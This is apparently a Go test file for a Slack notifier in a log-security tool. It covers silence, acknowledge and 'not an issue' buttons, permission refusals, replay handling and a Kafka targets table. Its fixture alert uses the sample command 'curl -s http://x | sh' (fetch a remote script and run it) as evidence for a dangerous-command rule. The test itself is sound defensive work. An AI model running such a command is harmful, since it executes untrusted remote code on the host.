package actions

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/slack-go/slack"
	"go.uber.org/zap"
	"google.golang.org/protobuf/proto"

	"github.com/logwarden/logwarden/pkg/clock"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/render"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/silence"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/slacktest"
)

var t0 = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

type writes struct {
	mu   sync.Mutex
	msgs []kafkax.Message
}

func (w *writes) Write(_ context.Context, msgs ...kafkax.Message) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.msgs = append(w.msgs, msgs...)
	return nil
}

func (w *writes) on(topic string) []kafkax.Message {
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []kafkax.Message
	for _, m := range w.msgs {
		if m.Topic == topic {
			out = append(out, m)
		}
	}
	return out
}

type fixture struct {
	h        *Handler
	targets  *Targets
	silences *silence.Store
	w        *writes
	slack    *slacktest.Server
	clk      *clock.Fake
	changes  []string
}

func newFixture(t *testing.T, allow []string) *fixture {
	t.Helper()
	s := slacktest.New()
	t.Cleanup(s.Close)
	s.SetMembers("C0ALERTS", "U0ALICE")
	api := slack.New("xoxb-test", slack.OptionAPIURL(s.APIURL()))
	f := &fixture{w: &writes{}, slack: s, clk: clock.NewFake(t0)}
	f.targets = NewTargets("actions", f.w, 7*24*time.Hour, f.clk, zap.NewNop())
	f.targets.OnChange = func(group, ref string) { f.changes = append(f.changes, group+" "+ref) }
	f.silences = silence.NewStore("silences", f.w, nil)
	f.h = NewHandler(Options{Targets: f.targets, Silences: f.silences, Feedback: f.w, FeedbackTopic: "feedback", Chat: api,
		Members: NewMembers(api, allow, time.Minute, f.clk), Clock: f.clk})
	a := &logwardenpb.Alert{Id: "a-1", Fingerprint: "rules/dangerous-command/alice", Entity: "alice", Severity: logwardenpb.Severity_SEVERITY_HIGH,
		Findings: []*logwardenpb.Finding{{Detector: "rules", RuleId: "dangerous-command"}},
		Evidence: []*logwardenpb.LogEvent{{Raw: "old"}, {Host: "web1", User: "alice", Action: "command", Target: "curl -s http://x | sh"}}}
	if err := f.targets.Register(context.Background(), testRef, "fingerprint=rules/dangerous-command/alice", a, "C0ALERTS", "1700000000.000001"); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *fixture) click(t *testing.T, mod func(c *slacktest.Click)) {
	t.Helper()
	c := click(func(c *slacktest.Click) { c.ActionTS = "" })
	if mod != nil {
		mod(&c)
	}
	f.h.Handle(context.Background(), slacktest.NewEnvelopeID(), encode(t, c.Payload()))
}

func (f *fixture) outcome(action, outcome string) float64 {
	return testutil.ToFloat64(f.h.o.Metrics.Actions.WithLabelValues(action, outcome))
}

// said returns the texts posted to method (chat.postMessage, chat.postEphemeral).
func (f *fixture) said(method string) []string {
	var out []string
	for _, r := range f.slack.Requests() {
		if strings.HasSuffix(r.Path, "/"+method) {
			var b struct {
				Text string `json:"text"`
			}
			_ = json.Unmarshal(r.Body, &b)
			out = append(out, b.Text)
		}
	}
	return out
}

func TestHandlerActions(t *testing.T) {
	f := newFixture(t, nil)
	// Silence 1h: a silence on rule and entity, the target marked, a thread reply.
	f.click(t, nil)
	if f.outcome("silence_1h", "ok") != 1 || len(f.silences.List()) != 1 {
		t.Fatalf("silence: outcome %v, %d silences", f.outcome("silence_1h", "ok"), len(f.silences.List()))
	}
	s := f.silences.List()[0]
	if s.MatchersString() != `rule="dangerous-command" entity="alice"` || !s.EndsAt.Equal(t0.Add(time.Hour)) || s.CreatedBy != "@alice (U0ALICE)" ||
		s.SlackTS != "1700000000.000001" || s.AlertID != "a-1" {
		t.Fatalf("silence %+v", s)
	}
	if tg, _ := f.targets.Get(testRef); tg.GetSilenced().GetId() != s.ID || len(f.changes) != 1 {
		t.Fatalf("target %v, changes %v", tg, f.changes)
	}
	if r := f.said("chat.postMessage"); len(r) != 1 || !strings.Contains(r[0], "<@U0ALICE> silenced") {
		t.Fatalf("thread replies %q", r)
	}
	// The same button again: one silence.
	f.click(t, nil)
	if f.outcome("silence_1h", "already") != 1 || len(f.silences.List()) != 1 {
		t.Fatal("a second Silence 1h made a second silence")
	}
	// Not an issue: a feedback record with the alert's most recent event.
	f.click(t, func(c *slacktest.Click) { c.ActionID = render.ActionNotAnIssue })
	fbs := f.w.on("feedback")
	if len(fbs) != 1 || string(fbs[0].Key) != "dangerous-command/alice" {
		t.Fatalf("feedback records %v", fbs)
	}
	fb := &logwardenpb.Feedback{}
	if err := proto.Unmarshal(fbs[0].Value, fb); err != nil {
		t.Fatal(err)
	}
	if fb.GetKind() != logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE || fb.GetEvent().GetTarget() != "curl -s http://x | sh" ||
		!fb.GetExpiresAt().AsTime().Equal(t0.Add(30*24*time.Hour)) || fb.GetCreatedBy() != "@alice (U0ALICE)" {
		t.Fatalf("feedback %v", fb)
	}
	f.click(t, func(c *slacktest.Click) { c.ActionID = render.ActionNotAnIssue })
	if f.outcome("not_an_issue", "already") != 1 || len(f.w.on("feedback")) != 1 {
		t.Fatal("a second Not an issue wrote again")
	}
	// Acknowledge: feedback record, marked at the alert's severity.
	f.click(t, func(c *slacktest.Click) { c.ActionID = render.ActionAcknowledge })
	if sev, ok := f.targets.Acknowledged(testRef); !ok || sev != logwardenpb.Severity_SEVERITY_HIGH || len(f.w.on("feedback")) != 2 {
		t.Fatalf("acknowledged %v %v", sev, ok)
	}
	// A more severe alert in the group: acknowledging again is possible.
	more := &logwardenpb.Alert{Id: "a-2", Entity: "alice", Severity: logwardenpb.Severity_SEVERITY_CRITICAL}
	if err := f.targets.Escalate(context.Background(), testRef, more); err != nil {
		t.Fatal(err)
	}
	f.click(t, func(c *slacktest.Click) { c.ActionID = render.ActionAcknowledge })
	if sev, _ := f.targets.Acknowledged(testRef); sev != logwardenpb.Severity_SEVERITY_CRITICAL || f.outcome("acknowledge", "ok") != 2 {
		t.Fatalf("re-acknowledged at %v", sev)
	}
}

func TestHandlerRefusals(t *testing.T) {
	for _, tt := range []struct {
		name      string
		allow     []string
		advance   time.Duration
		mod       func(c *slacktest.Click)
		action    string
		outcome   string
		ephemeral string
	}{
		{"not a member", nil, 0, func(c *slacktest.Click) { c.UserID = "U0MALLORY" }, "silence_1h", "refused", "Only members of <#C0ALERTS>"},
		{"not on the allow-list", []string{"U0BOB"}, 0, nil, "silence_1h", "refused", "Only members"},
		{"on the allow-list", []string{"U0ALICE"}, 0, nil, "silence_1h", "ok", ""},
		{"unknown ref", nil, 0, func(c *slacktest.Click) {
			c.Value, c.BlockID = "ffffffffffffffffffffffff", "lw/ffffffffffffffffffffffff"
		},
			"silence_1h", "unknown_alert", "not known to logwarden"},
		{"another message's ts", nil, 0, func(c *slacktest.Click) { c.MessageTS = "1700000000.000099" }, "silence_1h", "mismatch", ""},
		{"another channel", nil, 0, func(c *slacktest.Click) { c.ChannelID = "C0OTHER" }, "silence_1h", "mismatch", ""},
		{"older than max age", nil, 8 * 24 * time.Hour, nil, "silence_1h", "stale", "too old"},
		{"unknown action id", nil, 0, func(c *slacktest.Click) { c.ActionID = "lw_delete" }, "unknown", "invalid", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, tt.allow)
			f.clk.Advance(tt.advance)
			f.click(t, tt.mod)
			if got := f.outcome(tt.action, tt.outcome); got != 1 {
				t.Fatalf("outcome %s/%s counted %v", tt.action, tt.outcome, got)
			}
			if tt.outcome != "ok" && len(f.silences.List()) != 0 {
				t.Fatal("a refused click made a silence")
			}
			eph := f.said("chat.postEphemeral")
			if tt.ephemeral == "" && len(eph) != 0 || tt.ephemeral != "" && (len(eph) != 1 || !strings.Contains(eph[0], tt.ephemeral)) {
				t.Fatalf("ephemeral answers %q, want one saying %q", eph, tt.ephemeral)
			}
		})
	}
}

// An envelope delivered twice acts once.
func TestHandlerReplay(t *testing.T) {
	f := newFixture(t, nil)
	b := encode(t, click(nil).Payload())
	f.h.Handle(context.Background(), "env-1", b)
	f.h.Handle(context.Background(), "env-1", b)
	f.h.Handle(context.Background(), "env-2", b) // the same click in a new envelope
	if f.outcome("silence_1h", "ok") != 1 || f.outcome("unknown", "replay") != 1 || f.outcome("silence_1h", "replay") != 1 {
		t.Fatalf("ok %v, envelope replays %v, click replays %v", f.outcome("silence_1h", "ok"), f.outcome("unknown", "replay"), f.outcome("silence_1h", "replay"))
	}
}

// The targets table: records from another replica, tombstones and bad records.
func TestTargetsApply(t *testing.T) {
	w := &writes{}
	src := NewTargets("actions", w, time.Hour, clock.NewFake(t0), nil)
	a := &logwardenpb.Alert{Id: "a", Evidence: []*logwardenpb.LogEvent{{Raw: "1"}, {Raw: "2"}, {Raw: "3"}}}
	if err := src.Register(context.Background(), testRef, "g", a, "C1", "1.2"); err != nil {
		t.Fatal(err)
	}
	if len(a.GetEvidence()) != 3 {
		t.Fatal("Register changed the caller's alert")
	}
	dst := NewTargets("actions", &writes{}, time.Hour, clock.NewFake(t0), nil)
	invalid := 0
	dst.Invalid = func() { invalid++ }
	dst.Apply(w.msgs[0])
	tg, ok := dst.Get(testRef)
	if !ok || len(tg.GetAlert().GetEvidence()) != 1 || tg.GetAlert().GetEvidence()[0].GetRaw() != "3" || tg.GetTs() != "1.2" {
		t.Fatalf("applied %v", tg)
	}
	bad := w.msgs[0]
	bad.Key = []byte("ffffffffffffffffffffffff")
	dst.Apply(bad)
	dst.Apply(kafkax.Message{Key: []byte(testRef), Value: []byte("\xff")})
	if invalid != 2 || dst.Len() != 1 {
		t.Fatalf("%d invalid, %d held", invalid, dst.Len())
	}
	dst.Apply(kafkax.Message{Key: []byte(testRef)})
	if dst.Len() != 0 {
		t.Fatal("tombstone not applied")
	}
}
